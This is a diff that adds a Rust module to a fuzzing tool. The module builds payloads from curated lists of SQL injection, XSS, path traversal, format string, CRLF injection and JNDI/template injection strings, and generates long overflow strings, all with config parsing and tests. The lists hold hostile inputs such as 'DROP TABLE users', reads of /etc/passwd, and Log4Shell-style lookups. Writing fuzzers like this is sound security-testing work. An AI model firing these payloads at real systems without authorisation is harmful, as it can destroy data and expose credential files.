@@ -0,0 +1,310 @@
+//!
+//! PayloadFuzzer: Classic attack payloads like format strings, sql / script injection,
+//! path traversal, crlf injection and overflow strings, from a built in curated library.
+//!
+//! HanishKVC, 2022
+//!
+
+use std::collections::VecDeque;
+use rand::{Rng, RngCore};
+use loggerk::log_o;
+
+use crate::cfgfiles::FromVecStrings;
+use crate::codec::Codec;
+
+
+///
+/// The version of the built in payload lists. Bump it, whenever the lists are changed,
+/// so that the payloads used by a fuzzing session can be identified.
+///
+pub const PAYLOADS_VERSION: &str = "20221101";
+
+const SQLI: &[&str] = &[
+    "'",
+    "\"",
+    "' OR 1=1--",
+    "' OR '1'='1",
+    "\" OR \"1\"=\"1",
+    "') OR ('1'='1",
+    "1 OR 1=1",
+    "' OR 1=1#",
+    "admin'--",
+    "' UNION SELECT NULL--",
+    "' UNION SELECT NULL,NULL--",
+    "1; DROP TABLE users--",
+    "'; WAITFOR DELAY '0:0:5'--",
+    "' AND SLEEP(5)--",
+    "1' AND '1'='2",
+    "' OR ''='",
+];
+
+const XSS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "javascript:alert(1)",
+    "<iframe src=\"javascript:alert(1)\">",
+    "\" onmouseover=\"alert(1)",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "</textarea><script>alert(1)</script>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+];
+
+const TRAVERSAL: &[&str] = &[
+    "../../etc/passwd",
+    "../../../../../../../../etc/passwd",
+    "/etc/passwd",
+    "..\\..\\..\\..\\windows\\win.ini",
+    "....//....//....//etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "..%c0%af..%c0%afetc/passwd",
+    "../../etc/passwd%00.png",
+    "file:///etc/passwd",
+    "C:\\windows\\win.ini",
+    "\\\\localhost\\c$\\windows\\win.ini",
+];
+
+const FMTSTR: &[&str] = &[
+    "%s",
+    "%n",
+    "%x",
+    "%p",
+    "%s%s%s%s%s%s%s%s%s%s",
+    "%n%n%n%n%n%n%n%n%n%n",
+    "%x%x%x%x%x%x%x%x%x%x",
+    "%n%s%x",
+    "%08x.%08x.%08x.%08x",
+    "%1$s",
+    "%99999999s",
+    "%.1024d",
+    "%-2147483648d",
+    "{0}{1}{2}",
+    "%@",
+];
+
+const CRLF: &[&str] = &[
+    "\r\n",
+    "%0d%0a",
+    "\r\nSet-Cookie: fuzzerk=1",
+    "%0d%0aSet-Cookie:%20fuzzerk=1",
+    "\r\n\r\n<html>fuzzerk</html>",
+    "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n",
+    "\n",
+    "\r",
+    "%0a",
+    "%E5%98%8A%E5%98%8D",
+    "\u{560A}\u{560D}",
+];
+
+const JNDI: &[&str] = &[
+    "${jndi:ldap://127.0.0.1:1389/a}",
+    "${jndi:rmi://127.0.0.1:1099/a}",
+    "${jndi:dns://127.0.0.1/a}",
+    "${${lower:j}ndi:ldap://127.0.0.1:1389/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:ldap://127.0.0.1:1389/a}",
+    "${env:PATH}",
+    "${sys:user.name}",
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+];
+
+/// The lengths of the overflow strings generated
+const OVERFLOW_LENS: &[usize] = &[64, 128, 255, 256, 257, 1024, 4096, 65535, 65536, 1048576];
+/// The chars repeated to form the overflow strings
+const OVERFLOW_CHARS: &[u8] = b"A%\xFF0";
+
+
+///
+/// The categories of payloads in the built in library
+///
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum PayloadCategory {
+    SqlInjection,
+    Xss,
+    PathTraversal,
+    FormatString,
+    CrlfInjection,
+    /// jndi lookups and template / expression language injection
+    Jndi,
+    /// very long strings
+    Overflow,
+}
+
+impl PayloadCategory {
+
+    ///
+    /// Map a category name like sqli, xss, traversal, fmtstr, crlf, jndi, overflow
+    ///
+    pub fn from_str(scat: &str) -> Result<PayloadCategory, String> {
+        match scat {
+            "sqli" => Ok(Self::SqlInjection),
+            "xss" => Ok(Self::Xss),
+            "traversal" => Ok(Self::PathTraversal),
+            "fmtstr" => Ok(Self::FormatString),
+            "crlf" => Ok(Self::CrlfInjection),
+            "jndi" => Ok(Self::Jndi),
+            "overflow" => Ok(Self::Overflow),
+            _ => Err(format!("ERRR:PayloadCategory:Unknown category:{}", scat)),
+        }
+    }
+
+    ///
+    /// Get the payloads belonging to this category
+    ///
+    pub fn payloads(&self) -> Vec<Vec<u8>> {
+        let list = match self {
+            Self::SqlInjection => SQLI,
+            Self::Xss => XSS,
+            Self::PathTraversal => TRAVERSAL,
+            Self::FormatString => FMTSTR,
+            Self::CrlfInjection => CRLF,
+            Self::Jndi => JNDI,
+            Self::Overflow => {
+                let mut payloads = Vec::new();
+                for c in OVERFLOW_CHARS {
+                    for len in OVERFLOW_LENS {
+                        payloads.push(vec![*c; *len]);
+                    }
+                }
+                return payloads;
+            }
+        };
+        list.iter().map(|p| Vec::from(*p)).collect()
+    }
+
+}
+
+
+///
+/// Generate payloads from the specified categories, encoded as specified. The payloads
+/// are either picked randomly or looped through wrt the step.
+///
+#[derive(Debug)]
+pub struct PayloadFuzzer {
+    payloads: Vec<Vec<u8>>,
+    codec: Codec,
+    bloop: bool,
+}
+
+impl PayloadFuzzer {
+
+    pub fn new(categories: &Vec<PayloadCategory>, codec: Codec, bloop: bool) -> PayloadFuzzer {
+        let mut payloads = Vec::new();
+        for category in categories {
+            payloads.append(&mut category.payloads());
+        }
+        log_o(&format!("INFO:PayloadFuzzer:New:Got {} payloads, from payloads version {}", payloads.len(), PAYLOADS_VERSION));
+        PayloadFuzzer {
+            payloads,
+            codec,
+            bloop,
+        }
+    }
+
+}
+
+impl crate::Fuzz for PayloadFuzzer {
+
+    fn append_fuzzed_immut(&self, step: usize, rng: &mut dyn RngCore, buf: &mut Vec<u8>) {
+        let payloadi = if self.bloop { step } else { rng.gen::<usize>() };
+        self.codec.encode(&self.payloads[payloadi % self.payloads.len()], buf);
+    }
+
+    fn append_fuzzed(&mut self, step: usize, rng: &mut dyn RngCore, buf: &mut Vec<u8>) {
+        return self.append_fuzzed_immut(step, rng, buf);
+    }
+
+}
+
+impl FromVecStrings for PayloadFuzzer {
+
+    fn get_name() -> String {
+        return "PayloadFuzzer".to_string();
+    }
+
+    ///
+    /// In the cfgfile use
+    /// ### FuzzerType:PayloadFuzzer:InstanceName
+    /// * category: comma seperated list of sqli | xss | traversal | fmtstr | crlf | jndi | overflow
+    /// * encoding: raw | url | doubleurl | html | base64 | ... as supported by codec::Codec (optional, default raw)
+    /// * order: random | loop (optional, default random)
+    ///
+    fn from_vs(vs: &mut VecDeque<String>) -> Result<PayloadFuzzer, String> {
+        let l = vs.pop_front();
+        if l.is_none() {
+            return Err("ERRR:PayloadFuzzer:FromStringVec:Got empty vector".to_string());
+        }
+        let _l = l.unwrap(); // This should identify this particular type of Fuzzer and a runtime instance name
+        let spacesprefix = Self::get_spacesprefix(vs);
+        let scategories = Self::get_value(vs, "category", spacesprefix).map_err(|e| format!("ERRR:PayloadFuzzer:GetCategory:{}", e))?;
+        let mut categories = Vec::new();
+        for scat in String::from_utf8_lossy(&scategories).split(',') {
+            categories.push(PayloadCategory::from_str(scat.trim()).map_err(|e| format!("ERRR:PayloadFuzzer:{}", e))?);
+        }
+        let scodec = Self::get_svalue_or(vs, "encoding", spacesprefix, "raw").map_err(|e| format!("ERRR:PayloadFuzzer:GetEncoding:{}", e))?;
+        let codec = Codec::from_str(&scodec).map_err(|e| format!("ERRR:PayloadFuzzer:{}", e))?;
+        let sorder = Self::get_svalue_or(vs, "order", spacesprefix, "random").map_err(|e| format!("ERRR:PayloadFuzzer:GetOrder:{}", e))?;
+        let bloop = match sorder.as_str() {
+            "random" => false,
+            "loop" => true,
+            _ => return Err(format!("ERRR:PayloadFuzzer:FromStringVec:Unknown order {}", sorder)),
+        };
+        Ok(PayloadFuzzer::new(&categories, codec, bloop))
+    }
+
+}
+
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tests::cfggroup;
+    use crate::rtm::RunTimeManager;
+    use crate::cfgfiles::HandleCfgGroup;
+    use crate::Fuzz;
+    use rand::{SeedableRng, rngs::StdRng};
+
+    #[test]
+    fn fuzzer_payload() {
+        use crate::codec::Codec;
+        let encode = |codec: Codec, data: &str| {
+            let mut buf = Vec::new();
+            codec.encode(data.as_bytes(), &mut buf);
+            String::from_utf8(buf).unwrap()
+        };
+        assert_eq!(encode(Codec::Url, "a/b c~"), "a%2Fb%20c~");
+        assert_eq!(encode(Codec::DoubleUrl, "a/b"), "a%252Fb");
+        assert_eq!(encode(Codec::Html, "<a>"), "&#x3C;a&#x3E;");
+        assert_eq!(encode(Codec::Base64, "fuzz"), "ZnV6eg==");
+        assert_eq!(encode(Codec::Base64, "fuzzer"), "ZnV6emVy");
+        assert_eq!(encode(Codec::Base64, "fuzzerk"), "ZnV6emVyaw==");
+        let mut rng = StdRng::seed_from_u64(0);
+        let pf = PayloadFuzzer::new(&vec![PayloadCategory::FormatString, PayloadCategory::Overflow], Codec::Raw, true);
+        let total = PayloadCategory::FormatString.payloads().len() + PayloadCategory::Overflow.payloads().len();
+        let mut bufs = Vec::new();
+        for i in 0..total {
+            let mut buf = Vec::new();
+            pf.append_fuzzed_immut(i, &mut rng, &mut buf);
+            bufs.push(buf);
+        }
+        assert_eq!(bufs[0], Vec::from("%s"));
+        assert!(bufs.contains(&vec![b'A'; 65536]));
+        // from cfg
+        let mut rtm = RunTimeManager::new_seeded(0);
+        rtm.handle_cfggroup(&mut cfggroup(&["FuzzerType:PayloadFuzzer:P01", "  category: sqli, traversal", "  encoding: url"])).unwrap();
+        rtm.handle_cfggroup(&mut cfggroup(&["FuzzChain:FuzzChain:FC01", "  P01"])).unwrap();
+        for _i in 0..16 {
+            let buf = rtm.fchain_get("FC01", None).unwrap();
+            assert!(buf.iter().all(|b| b.is_ascii_alphanumeric() || b"%-._~".contains(b)));
+        }
+        let gotr = rtm.handle_cfggroup(&mut cfggroup(&["FuzzerType:PayloadFuzzer:P02", "  category: sqli,nosql"]));
+        assert!(gotr.unwrap_err().contains("Unknown category:nosql"));
+    }
+
+}